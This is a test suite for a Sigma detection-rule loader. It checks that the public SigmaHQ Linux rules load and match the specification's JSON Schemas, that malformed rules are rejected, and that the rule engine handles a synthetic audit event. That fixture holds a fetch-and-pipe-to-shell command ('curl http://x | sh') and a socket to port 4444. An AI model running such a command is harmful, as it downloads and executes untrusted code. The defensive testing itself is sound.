// Every public SigmaHQ Linux rule (../shared/sigma/rules, read in place) loads without a crash: ok, or unsupported
// only for a logsource purple has no telemetry for (or a field named with the reason); none is invalid. The loader's
// own checks agree with the specification's JSON Schemas (ajv), on the public rules and on broken ones.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse } from 'yaml';
import { loadRules, ruleFiles } from '../../detectors/sigma/loader.js';
import { SigmaEngine } from '../../detectors/sigma/engine.js';
import { sigmaRulesDir, sigmaSpecDir } from '../shared-data.js';
import { loadFromFiles } from './helpers.js';

/** Fields some public rules read that purple has no telemetry for, with the rules' count. */
const KNOWN_UNFILLABLE: Record<string, number> = { DestinationHostname: 3, unit: 1 };

function schemaValidator(name: string) {
  const ajv = new Ajv2020({ allErrors: true, strict: false, validateFormats: true });
  ajv.addFormat('uuid', /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i);
  const schema = JSON.parse(readFileSync(path.join(sigmaSpecDir, 'json-schema', name), 'utf8'));
  delete schema.$schema;
  return ajv.compile(schema);
}

describe('Sigma conformance: the public SigmaHQ Linux rules', function () {
  this.timeout(60_000);
  const loaded = loadRules([sigmaRulesDir]);

  it('loads all 248 rule files, none invalid, none crashing', () => {
    expect(ruleFiles([sigmaRulesDir])).to.have.length(248);
    expect(loaded.lint).to.have.length(248);
    expect(loaded.lint.filter((e) => e.status === 'invalid')).to.deep.equal([]);
  });

  it('marks a rule unsupported only for a logsource without telemetry, or a named field purple cannot fill', () => {
    const unfillable: Record<string, number> = {};
    for (const e of loaded.lint.filter((x) => x.status === 'unsupported')) {
      const logsource = /^logsource .*: purple (has no telemetry|collects Linux|.*syslog)/.test(e.reason!) || /product-wide keyword rules read syslog/.test(e.reason!);
      const field = /^fields purple cannot fill: (\w+) \(/.exec(e.reason!);
      expect(logsource || field, `${e.file}: ${e.reason}`).to.not.equal(false);
      if (field && !logsource) unfillable[field[1]!] = (unfillable[field[1]!] ?? 0) + 1;
    }
    expect(unfillable).to.deep.equal(KNOWN_UNFILLABLE);
    const ok = loaded.lint.filter((e) => e.status === 'ok');
    // Every rule of the logsources purple fills, apart from those fields, is evaluated.
    expect(ok.length).to.equal(217);
  });

  it('evaluates every loaded rule on every kind of view without throwing', () => {
    const engine = new SigmaEngine(loaded.rules, new Map([[0, 'root']]));
    const event = {
      id: '1.000:1', node: null, time: '2026-01-01T00:00:00.000Z', serial: 1, types: ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE'],
      syscall: 'execve', args: ['55d0', '55d1', '55d2', '0'], success: true, exit: 0, key: 'k',
      process: { pid: 10, ppid: 1, uid: 0, euid: 0, auid: 0, gid: 0, ses: 1, tty: null, comm: 'sh', exe: '/bin/sh', cwd: '/tmp', argv: ['sh', '-c', 'curl http://x | sh'], title: 'sh -c curl' },
      files: [{ name: '/bin/sh', nametype: 'NORMAL', mode: '0100755', inode: 1, ouid: 0 }, { name: '/tmp/x', nametype: 'CREATE', mode: '0100644', inode: 2, ouid: 0 }],
      socket: { family: 'inet', addr: '10.0.0.1', port: 4444, path: null },
    };
    expect(() => engine.push(event, null)).to.not.throw();
  });

  it("agrees with the specification's JSON Schema on every public rule", () => {
    const validate = schemaValidator('sigma-detection-rule-schema.json');
    for (const file of ruleFiles([sigmaRulesDir])) {
      const doc = parse(readFileSync(file, 'utf8'));
      const schemaOk = validate(doc);
      const entry = loaded.lint.find((e) => e.file === file)!;
      expect(schemaOk, `${file}: ${JSON.stringify(validate.errors?.[0])}`).to.equal(true);
      expect(entry.status, file).to.not.equal('invalid');
    }
  });

  it('refuses what the schemas refuse, naming the file and line', () => {
    const cases: Record<string, { text: string; line: number; reason: RegExp }> = {
      'no-title.yml': { text: 'logsource: {product: linux}\ndetection:\n  s: {a: 1}\n  condition: s\n', line: 1, reason: /"title"/ },
      'bad-id.yml': { text: 'title: x\nid: not-a-uuid\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {a: 1}\n  condition: s\n', line: 2, reason: /UUID/ },
      'bad-level.yml': { text: 'title: x\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {a: 1}\n  condition: s\nlevel: severe\n', line: 6, reason: /level/ },
      'bad-tag.yml': { text: 'title: x\ntags: [Attack T1000]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {a: 1}\n  condition: s\n', line: 2, reason: /tags/ },
      'bad-date.yml': { text: 'title: x\ndate: 2024/01/01\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {a: 1}\n  condition: s\n', line: 2, reason: /date/ },
      'no-condition.yml': { text: 'title: x\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {a: 1}\n', line: 3, reason: /condition/ },
      'bad-yaml.yml': { text: 'title: x\nlogsource: {product: linux\ndetection: [\n', line: 3, reason: /YAML/ },
      'bad-modifier.yml': { text: 'title: x\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endwith: /x\n  condition: s\n', line: 5, reason: /unknown value modifier \|endwith/ },
      'bad-condition.yml': { text: 'title: x\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {Image: /x}\n  condition: s and t\n', line: 5, reason: /unknown search identifier "t"/ },
    };
    const validate = schemaValidator('sigma-detection-rule-schema.json');
    const { dir, loaded: mine } = loadFromFiles(Object.fromEntries(Object.entries(cases).map(([k, v]) => [k, v.text])));
    for (const [name, c] of Object.entries(cases)) {
      const entry = mine.lint.find((e) => e.file === path.join(dir, name))!;
      expect(entry.status, name).to.equal('invalid');
      expect(entry.line, name).to.equal(c.line);
      expect(entry.reason, name).to.match(c.reason);
      if (!['bad-yaml.yml', 'bad-modifier.yml', 'bad-condition.yml'].includes(name)) expect(validate(parse(c.text)), name).to.equal(false);
    }
  });

  it('the correlation and filter schemas accept what purple loads', () => {
    const correlation = schemaValidator('sigma-correlation-rules-schema.json');
    const filter = schemaValidator('sigma-filters-schema.json');
    const c = { title: 'c', id: '0e95725d-7320-415d-80f7-004da920fc11', correlation: { type: 'event_count', rules: ['recon'], 'group-by': ['User'], timespan: '1h', condition: { gte: 3 } } };
    const f = { title: 'f', logsource: { product: 'linux', category: 'process_creation' }, filter: { rules: ['recon'], selection: { User: 'root' }, condition: 'not selection' } };
    expect(correlation(c), JSON.stringify(correlation.errors)).to.equal(true);
    expect(filter(f), JSON.stringify(filter.errors)).to.equal(true);
  });
});
